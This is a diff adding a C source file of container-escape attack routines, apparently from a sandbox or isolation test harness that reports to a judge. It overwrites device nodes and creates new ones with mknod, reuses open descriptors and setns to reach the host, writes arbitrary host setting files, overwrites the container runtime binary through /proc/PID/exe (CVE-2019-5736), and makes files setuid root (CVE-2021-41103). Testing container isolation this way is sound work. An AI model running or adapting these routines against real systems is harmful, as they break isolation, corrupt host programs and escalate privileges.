@@ -1,0 +1,159 @@
+// SPDX-License-Identifier: MIT
+/* Devices, descriptors, programs, and files that hold a setting of the host. */
+#include "attack.h"
+
+#include <dirent.h>
+#include <sched.h>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
+#include <sys/wait.h>
+
+void attack_device(char **args)
+{
+	for (; *args; args++) {
+		int fd = open(*args, O_RDWR | O_CLOEXEC);
+
+		if (fd < 0) {
+			printf("open %s: %s\n", *args, strerror(errno));
+			continue;
+		}
+		if (write(fd, "overwritten\n", 12) == 12 && fsync(fd) == 0)
+			printf("overwrote %s\n", *args);
+		close(fd);
+	}
+}
+
+/* "b:MAJOR:MINOR" in each place that is writable. */
+void attack_make_devices(char **args)
+{
+	static char node[] = "/tmp/node", in_dev[] = "/dev/node", in_shm[] = "/dev/shm/node";
+	char *nodes[] = { node, in_dev, in_shm, NULL };
+	unsigned int major, minor;
+	char type;
+
+	if (!*args || sscanf(*args, "%c:%u:%u", &type, &major, &minor) != 3)
+		return;
+	for (char **path = nodes; *path; path++)
+		if (mknod(*path, (type == 'b' ? S_IFBLK : S_IFCHR) | 0666, makedev(major, minor)) == 0)
+			printf("made %s\n", *path);
+	attack_device(nodes);
+}
+
+/* ---- descriptors ---- */
+
+static void use_descriptor(int fd)
+{
+	char how[64];
+	pid_t pid;
+
+	snprintf(how, sizeof(how), "descriptor %d", fd);
+	look_from(fd, how);
+	if (fchdir(fd) == 0)
+		for (int i = 0; i < 12; i++) {
+			look_from(AT_FDCWD, how);
+			if (chdir("..") < 0)
+				break;
+		}
+	pid = fork();
+	if (pid == 0) {
+		if (setns(fd, 0) == 0)
+			look_in("/");
+		_exit(0);
+	}
+	waitpid(pid, NULL, 0);
+}
+
+/* What is open is listed from outside. */
+void attack_descriptors(char **args)
+{
+	(void)args;
+	for (int fd = 0; fd < 256; fd++)
+		if (fcntl(fd, F_GETFD) >= 0)
+			use_descriptor(fd);
+	wait_for_judge();
+}
+
+/* ---- settings ---- */
+
+/* PATH TEXT */
+void attack_overwrite(char **args)
+{
+	for (; args[0] && args[1]; args += 2) {
+		int fd = open(args[0], O_WRONLY | O_CLOEXEC);
+
+		if (fd < 0) {
+			printf("open %s: %s\n", args[0], strerror(errno));
+			continue;
+		}
+		if (write(fd, args[1], strlen(args[1])) > 0)
+			printf("wrote %s\n", args[0]);
+		close(fd);
+	}
+}
+
+/* ---- programs ---- */
+
+static int held[64], n_held;
+
+static void hold(const char *path)
+{
+	int fd = open(path, O_PATH | O_CLOEXEC);
+
+	if (fd >= 0 && n_held < 64)
+		held[n_held++] = fd;
+}
+
+static void hold_program_of(pid_t pid)
+{
+	char path[64];
+
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	hold(path);
+}
+
+static void overwrite_held(int fd)
+{
+	char path[64];
+	int writable;
+
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	writable = open(path, O_WRONLY | O_CLOEXEC);
+	if (writable < 0)
+		return;
+	if (pwrite(writable, "#!OVERWRITTEN", 13, 0) == 13)
+		printf("overwrote a program\n");
+	close(writable);
+}
+
+/*
+ * CVE-2019-5736: the program that started the container, as long as it runs it cannot be opened for
+ * writing, but it can be held until it has ended. A child goes on in a session of its own.
+ */
+void attack_programs(char **args)
+{
+	hold_program_of(1);
+	each_process(hold_program_of);
+	for (; *args; args++)
+		hold(*args);
+	if (fork() == 0) {
+		setsid();
+		for (int round = 0; round < 100; round++, usleep(10000))
+			for (int i = 0; i < n_held; i++)
+				overwrite_held(held[i]);
+		_exit(0);
+	}
+	for (int round = 0; round < 10; round++, usleep(10000))
+		for (int i = 0; i < n_held; i++)
+			overwrite_held(held[i]);
+}
+
+/* CVE-2021-41103: PATH becomes a program that others run as its owner. */
+void attack_setuid(char **args)
+{
+	for (; *args; args++) {
+		if (chown(*args, 0, 0) < 0)
+			printf("chown %s: %s\n", *args, strerror(errno));
+		if (chmod(*args, 04755) < 0)
+			printf("chmod %s: %s\n", *args, strerror(errno));
+	}
+}
